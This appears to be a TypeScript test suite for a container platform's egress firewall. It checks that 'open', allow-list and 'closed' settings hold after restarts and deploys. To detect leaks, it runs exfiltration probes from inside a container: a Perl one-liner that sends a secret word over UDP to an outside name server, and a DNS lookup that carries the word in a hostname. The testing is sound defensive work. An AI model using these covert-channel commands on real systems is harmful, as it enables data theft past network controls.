import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { asks, defend, firewall, serveNames } from './attack.ts';
import { crossings } from './crossings.ts';
import { docker, inside, labelOf, must, mustAiplat, pidOf, prepareHost, sh, until } from './inside.ts';
import { areWell, FAR_WORLD, WORLD, withWorld } from './world.ts';

const CADDY = 'caddy-tenant-1002';
withWorld();

describe('after a restart of the engine', () => {
  before(async () => {
    must(sh('systemctl restart docker'));
    await until('every container is well again', 300, areWell);
  });
  it('the firewall is in force and every container wears its profile', () => {
    mustAiplat('host', 'doctor');
    assert.equal(labelOf(pidOf(CADDY)), 'ai-platform-1002-caddy (enforce)');
    assert.equal(labelOf(pidOf('caddy-tenant-1001')), 'ai-platform-1001-caddy (enforce)');
  });
  defend(crossings());
});

describe('"egress" in the host config', () => {
  const fromB = (line: string): boolean => inside(CADDY, line).code === 0;
  const raise = (egress: unknown): void => {
    prepareHost({ egress });
    mustAiplat('deploy', '--tenant', 'tenant-1002', '--timeout', '600');
  };
  const homes = [asks('http://chroma:8000/api/v2/heartbeat'), 'getent hosts chroma'];
  const [WORLD_LOG, HOST_LOG] = ['/tmp/names-world', '/tmp/names-host'];
  let asked = 0;
  /** Does a word that was never said before arrive at this name server? That is how data leaves. */
  const leaks = (log: string, lineOf: (word: string) => string): boolean => {
    const word = `secret-${++asked}`;
    fromB(lineOf(word));
    return sh(`sleep 1; grep -q ${word} ${log}`).code === 0;
  };
  const byResolver = (): boolean => leaks(HOST_LOG, (word) => `timeout 20 getent hosts ${word}.example`);
  const directly = (): boolean =>
    leaks(WORLD_LOG, (word) => `perl -MIO::Socket::INET -e '${send}' ${WORLD}:53 ${word}`);
  const send = 'IO::Socket::INET->new(Proto => "udp", PeerAddr => shift)->send("to the world: " . shift)';
  const ends: (() => void)[] = [];

  before(async () => {
    ends.push(serveNames(WORLD, WORLD_LOG, ['ip', 'netns', 'exec', 'world']));
    ends.push(serveNames('127.0.0.1', HOST_LOG));
    writeFileSync('/etc/resolv.conf', 'nameserver 127.0.0.1\n');
    must(docker('restart', CADDY));
    await until('the container is well again', 120, areWell);
  });
  after(() => {
    for (const end of ends) end();
    sh('rm -f /etc/resolv.conf');
    raise('open');
  });

  it('"open" lets everything out, names that the host resolves on its loopback too', () => {
    assert.ok(fromB(asks(`http://${WORLD}/`)));
    assert.ok(directly());
    assert.ok(byResolver());
  });

  it('a list is raised by a deploy: what it names is reached, and so are neighbours by name', () => {
    raise(['198.51.100.0/24']);
    for (const line of [asks(`http://${WORLD}/`), ...homes]) assert.ok(fromB(line), line);
  });
  defend([
    {
      what: 'a list: a container reaches an address beside it',
      succeeds: () => fromB(asks(`http://${FAR_WORLD}/`)),
      wall: firewall,
    },
  ]);

  it('"closed" is raised by a deploy, and containers still reach their neighbours by name', () => {
    raise('closed');
    for (const line of homes) assert.ok(fromB(line), line);
  });
  defend([
    {
      what: '"closed": a container reaches the internet',
      succeeds: () => fromB(asks(`http://${WORLD}/`)),
      wall: firewall,
    },
    {
      what: '"closed": a container sends a word to a name server of the internet',
      succeeds: directly,
      wall: firewall,
    },
    {
      what: '"closed": a container sends a word by a name that the resolver of the host looks up',
      succeeds: byResolver,
    },
  ]);
});
